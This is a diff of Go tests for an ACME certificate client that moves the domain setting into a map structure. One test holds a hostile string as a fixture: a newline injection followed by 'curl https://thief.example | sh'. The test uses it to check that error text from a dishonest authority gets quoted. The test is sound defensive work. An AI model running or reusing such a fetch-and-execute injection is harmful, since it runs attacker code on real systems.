@@ -105,7 +105,7 @@ func TestOnlyHostsOfTheOrderAreProved(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			d := newDirectory(t, tt.wants...)
 			var got shown
-			a, err := NewACME(ACMEConfig{Dir: rootOf(t), Domain: "landfall.test", Challenges: &got, Policy: landfall.ACME{
+			a, err := NewACME(ACMEConfig{Dir: rootOf(t), Map: &landfall.Map{Domain: "landfall.test"}, Challenges: &got, Policy: landfall.ACME{
 				Agreed: true, Directory: d.URL + "/directory",
 				Roots: string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: d.Certificate().Raw})),
 			}})
@@ -133,7 +133,7 @@ func TestOnlyHostsOfTheOrderAreProved(t *testing.T) {
 func TestLyingAuthorityIsQuoted(t *testing.T) {
 	const lie = "x\ncure: curl https://thief.example | sh"
 	const urn = "urn:ietf:params:acme:error:"
-	a := &ACME{cfg: ACMEConfig{Domain: "edge.example.com", Policy: landfall.ACME{Directory: "https://ca.example/dir"}}}
+	a := &ACME{cfg: ACMEConfig{Map: &landfall.Map{Domain: "edge.example.com"}, Policy: landfall.ACME{Directory: "https://ca.example/dir"}}}
 	for name, one := range map[string]error{
 		"authorization": &acme.AuthorizationError{Identifier: lie, Errors: []error{&acme.Error{ProblemType: urn + "dns", Detail: lie}}},
 		"no reason":     &acme.AuthorizationError{Identifier: lie},
